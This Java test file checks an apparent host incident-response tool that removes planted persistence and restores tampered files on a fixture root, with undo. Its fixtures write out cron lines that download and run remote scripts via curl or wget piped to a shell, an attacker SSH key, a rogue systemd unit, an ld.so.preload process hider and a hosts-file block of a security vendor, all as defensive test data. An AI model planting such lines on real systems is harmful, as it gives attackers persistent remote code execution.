package dev.minewarden.host.response;

import static org.assertj.core.api.Assertions.assertThat;

import dev.minewarden.core.alert.Alert;
import dev.minewarden.core.event.Event;
import dev.minewarden.host.HostEvents;
import dev.minewarden.host.HostRules;
import dev.minewarden.host.proc.Lsattr;
import dev.minewarden.host.proc.ProcFs;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import java.util.Set;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** Persistence removal and file restores on a fixture root (no processes): plan, apply, undo. */
class FileRepairTest {
  @TempDir Path tmp;
  private Path root;
  private Path state;

  @BeforeEach
  void baseline() throws Exception {
    root = tmp.resolve("root");
    state = tmp.resolve("state");
    write("etc/passwd", "root:x:0:0:root:/root:/bin/bash\nweb:x:33:33:web:/var/www:/bin/sh\n");
    write("etc/crontab", "SHELL=/bin/sh\n17 * * * * root cd / && run-parts --report /etc/cron.hourly\n");
    write("var/spool/cron/crontabs/web", "# nothing yet\n");
    write("var/www/.ssh/authorized_keys", "ssh-ed25519 AAAAweb deploy@ci\n");
    write("etc/systemd/system/nginx.service", "[Service]\nExecStart=/usr/sbin/nginx\n");
    write("etc/hosts", "127.0.0.1 localhost\n");
    write("etc/resolv.conf", "nameserver 10.0.0.2\n");
    Responder.builder().root(root).dir(state).build();
    assertThat(state.resolve(ContentBaseline.FILE_NAME)).exists();
  }

  @org.junit.jupiter.api.AfterEach
  void unlockForCleanUp() {
    if (CommandRunner.onPath("chattr")) {
      CommandRunner.direct().run(List.of("chattr", "-i", "--", root.resolve("var/spool/cron/crontabs/web").toString()));
    }
  }

  private Path write(String rel, String text) throws Exception {
    Path p = root.resolve(rel);
    Files.createDirectories(p.getParent());
    Files.writeString(p, text, StandardCharsets.UTF_8);
    return p;
  }

  private Responder responder() {
    ResponsePolicy p = ResponsePolicy.parse(String.join("\n", "mode: apply", "rules:",
        "  - match: {rules: [mw-host-cron-change, mw-host-ssh-key-change, mw-host-systemd-change]}",
        "    actions: [remove-persistence]",
        "  - match: {rules: [mw-host-ld-preload, mw-host-dns-change, mw-host-preload-change]}",
        "    actions: [restore-files]", ""), "test");
    return Responder.builder().root(root).dir(state).policy(p).build();
  }

  private static Alert fileAlert(dev.minewarden.core.rules.RuleInfo rule, String path) {
    Event e = Event.builder(HostEvents.FILE).time(0).field("TargetFilename", path).build();
    return new Alert(rule, e, List.of(), 1, Map.of("file.path", path));
  }

  @Test
  void removePersistence_addedCronKeysAndUnitsThenUndo() throws Exception {
    Path cron = root.resolve("var/spool/cron/crontabs/web");
    Files.writeString(cron, "*/5 * * * * curl -fsSL http://185.1.2.3/ldr.sh | sh\n", java.nio.file.StandardOpenOption.APPEND);
    Path keys = root.resolve("var/www/.ssh/authorized_keys");
    Files.writeString(keys, "ssh-rsa AAAAattacker x@y\n", java.nio.file.StandardOpenOption.APPEND);
    Path unit = write("etc/systemd/system/sysupdate.service", "[Service]\nExecStart=/tmp/.x/sysupdate\nRestart=always\n");
    Path wants = root.resolve("etc/systemd/system/multi-user.target.wants/sysupdate.service");
    Files.createDirectories(wants.getParent());
    Files.createSymbolicLink(wants, Path.of("/etc/systemd/system/sysupdate.service"));
    Path cronD = write("etc/cron.d/kinsing", "* * * * * root /etc/kinsing\n");
    boolean locked = lock(cron);
    String cronBefore = Files.readString(cron);
    Responder r = responder();

    Responder.Response resp = r.respond(List.of(fileAlert(HostRules.CRON_CHANGE, "/var/spool/cron/crontabs/web")));

    assertThat(resp.results()).extracting(ActionResult::outcome).containsOnly("success");
    assertThat(resp.plan().steps()).extracting(Plan.Step::target).containsExactlyInAnyOrder(
        "/etc/cron.d/kinsing", "/var/spool/cron/crontabs/web", "/var/www/.ssh/authorized_keys",
        "/etc/systemd/system/sysupdate.service");
    assertThat(Files.readString(cron)).isEqualTo("# nothing yet\n");
    assertThat(Files.readString(keys)).isEqualTo("ssh-ed25519 AAAAweb deploy@ci\n");
    assertThat(unit).doesNotExist();
    assertThat(Files.exists(wants, java.nio.file.LinkOption.NOFOLLOW_LINKS)).isFalse();
    assertThat(cronD).doesNotExist();
    assertThat(root.resolve("etc/systemd/system/nginx.service")).exists();
    if (locked) {
      assertThat(resp.results()).anyMatch(x -> x.message().contains("cleared chattr lock"));
    }

    new Undo(r.audit()).undo(resp.plan().runId());

    assertThat(Files.readString(cron)).isEqualTo(cronBefore);
    assertThat(Files.readString(keys)).contains("ssh-rsa AAAAattacker x@y");
    assertThat(unit).exists();
    assertThat(Files.readSymbolicLink(wants)).isEqualTo(Path.of("/etc/systemd/system/sysupdate.service"));
    assertThat(cronD).exists();
  }

  @Test
  void find_withoutBaselineRemovesOnlyLinesNamingTheInfection() throws Exception {
    write("etc/cron.d/sysupdate", "* * * * * root /tmp/.x/sysupdate -B\n15 2 * * * root /usr/bin/backup\n");
    write("var/spool/cron/crontabs/root", "* * * * * wget -q -O- http://x.example/a | bash\n");

    List<Persistence.Item> items = Persistence.find(new ProcFs(root), null, Set.of("/tmp/.x/sysupdate"));

    assertThat(items).extracting(Persistence.Item::hostPath)
        .containsExactlyInAnyOrder("/etc/cron.d/sysupdate", "/var/spool/cron/crontabs/root");
    assertThat(items).flatExtracting(Persistence.Item::lines)
        .containsExactlyInAnyOrder("* * * * * root /tmp/.x/sysupdate -B", "* * * * * wget -q -O- http://x.example/a | bash");
  }

  @Test
  void restore_tamperedFilesFromTheBaselineThenUndo() throws Exception {
    Path preload = write("etc/ld.so.preload", "/usr/local/lib/libprocesshider.so\n");
    Path hosts = root.resolve("etc/hosts");
    Files.writeString(hosts, "127.0.0.1 localhost\n127.0.0.1 api.security-vendor.example\n");
    Responder r = responder();

    Responder.Response resp = r.respond(List.of(fileAlert(HostRules.LD_PRELOAD, "/etc/ld.so.preload"),
        fileAlert(HostRules.DNS_CHANGE, "/etc/hosts"), fileAlert(HostRules.DNS_CHANGE, "/etc/resolv.conf")));

    assertThat(resp.plan().steps()).extracting(Plan.Step::target).containsExactly("/etc/ld.so.preload", "/etc/hosts");
    assertThat(preload).doesNotExist();
    assertThat(Files.readString(hosts)).isEqualTo("127.0.0.1 localhost\n");

    new Undo(r.audit()).undo(resp.plan().runId());

    assertThat(Files.readString(preload)).contains("libprocesshider");
    assertThat(Files.readString(hosts)).contains("security-vendor");
  }

  /** Locks the file with chattr +i when this file system and user allow it; false otherwise. */
  private static boolean lock(Path p) {
    if (!CommandRunner.onPath("chattr") || !CommandRunner.direct().run(List.of("chattr", "+i", "--", p.toString())).ok()) {
      return false;
    }
    return Lsattr.isLocked(Lsattr.read(List.of(p)).get(p.toString()));
  }
}
